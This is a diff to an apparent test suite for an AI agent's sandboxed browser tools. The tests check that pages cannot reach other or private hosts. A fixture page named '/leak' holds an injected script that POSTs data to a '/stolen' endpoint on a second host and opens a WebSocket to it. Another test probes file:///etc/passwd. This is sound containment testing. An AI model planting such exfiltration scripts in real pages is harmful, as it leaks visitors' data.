@@ -57,7 +57,10 @@ class Site(Loopback):
         if asked.path == "/leak":
             steal = f"fetch('{self._other}/stolen', {{method: 'POST', mode: 'no-cors', body: 'data'}})"
             socket = f"new WebSocket('{self._other.replace('http', 'ws')}/socket')"
-            return self._html(f"<p>leaking</p><img src='{self._other}/i.png'><script>{steal}; {socket}</script>")
+            again = "setInterval(() => fetch('/again'), 50)"
+            return self._html(
+                f"<p>leaking</p><img src='{self._other}/i.png'><script>{steal}; {socket}; {again}</script>"
+            )
         return self._html(START if asked.path == "/" else f"<p>the end of {asked.path}</p>")
 
     def _html(self, text: str) -> Answered:
@@ -107,10 +110,13 @@ async def test_a_page_is_opened_read_filled_clicked_and_seen(bench: Bench, site:
         f"[4] link “File” = {mine.url}/file",
         f"[5] link “Away” = {mine.url}/away",
     ]
+    early = bench.prepare(BrowserClick(), element=2)
     call = bench.prepare(BrowserFill(), element=1, text="Ada")
     assert call.view.title == "Fill in “Name” on 127.0.0.1: Ada"
     assert call.accesses == (FetchesUrl(url=f"{mine.url}/", method="POST", carries=True),)
     assert "= Ada" in said(await call.run())
+    with pytest.raises(ToolError, match="another one by now"):  # it was judged as it was before
+        await early.run()
     assert "sent who=Ada with seen=1" in await bench.text(BrowserClick(), element=2)
     assert "sent who=Ada" in await bench.text(BrowserRead())
     result = await bench.call(BrowserScreenshot())
@@ -122,7 +128,9 @@ async def test_a_page_is_opened_read_filled_clicked_and_seen(bench: Bench, site:
         await bench.call(BrowserRead())
 
 
-async def test_redirects_are_followed_within_the_host_and_no_further(bench: Bench, site: tuple[Site, Loopback]) -> None:
+async def test_a_page_leads_no_further_than_its_host_and_reaches_nothing_private(
+    bench: Bench, site: tuple[Site, Loopback]
+) -> None:
     mine, other = site
     await bench.call(BrowserOpen(), url=f"{mine.url}/")
     assert "the end of /end" in await bench.text(BrowserClick(), element=3)
@@ -135,16 +143,14 @@ async def test_redirects_are_followed_within_the_host_and_no_further(bench: Benc
     with pytest.raises(ToolError, match=r"Download is starting|ERR_ABORTED"):
         await bench.call(BrowserOpen(), url=f"{mine.url}/file")
 
-
-async def test_a_page_reaches_no_private_host_and_sends_nothing_elsewhere(
-    bench: Bench, site: tuple[Site, Loopback]
-) -> None:
-    mine, other = site
     assert "leaking" in await bench.text(BrowserOpen(), url=f"{mine.url}/leak")
     assert other.asked == []
     assert "not allowed" in await bench.text(BrowserOpen(), url=f"{mine.url}/forbidden")
     with pytest.raises(ToolError, match="only http"):
         await bench.call(BrowserOpen(), url="file:///etc/passwd")
+    asked = len(mine.asked)
+    await SessionBrowser.on(bench.state).aclose()
+    assert len(mine.asked) == asked  # nothing is requested while nobody uses the browser
     assert "/forbidden" not in json.dumps([asked.path for asked in mine.asked])
 
 
